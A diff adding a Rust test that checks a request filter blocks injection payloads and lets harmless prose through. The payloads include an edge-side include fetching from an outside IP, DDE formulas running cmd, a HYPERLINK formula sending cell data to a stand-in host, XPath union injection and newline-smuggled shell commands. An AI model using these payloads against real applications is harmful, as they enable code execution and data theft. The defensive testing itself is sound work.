@@ -534,3 +534,31 @@ fn math_slashes_encoded_paths_and_identity_queries_block() {
         assert_passes(&get(&search(s), None), s);
     }
 }
+
+/// Edge side includes, spreadsheet formulas that run a program or fetch a
+/// URL, an XPath predicate closed into a union, and a command on a line
+/// of its own before a separator block; prose about the same things
+/// passes.
+#[test]
+fn esi_formulas_xpath_unions_and_line_commands_block() {
+    for q in [
+        "/s?q=%3Cesi:include%20src=%22http://203.0.113.9/x%22/%3E",
+        "/s?q=%3Dcmd|%27%20/C%20calc%27!A0",
+        "/s?q=%40SUM(1%2B1)*cmd|%27%20/C%20calc%27!A0",
+        "/s?q=%3DHYPERLINK(%22http://203.0.113.9/?%22%26A1,%22x%22)",
+        "/s?q=x%27%5D%7C//*%7C//*%5B%27",
+        "/api/items/x']|//*|//*['/details",
+        "/s?q=127.0.0.1%0aenv;",
+        "/s?q=1%0aid|",
+    ] {
+        assert_eq!(get(q, None).action, Action::Block, "{q}");
+    }
+    for s in [
+        "Edge side includes: the esi:include tag and <esi> docs",
+        "=SUM(A1:A3) | 'totals' sheet, and Q1'!A1 refs",
+        "names ['a', 'b'] | sorted / grouped",
+        "Dear team,\nid: 4471; ls: pending\nps: see you & thanks",
+    ] {
+        assert_passes(&get(&search(s), None), s);
+    }
+}
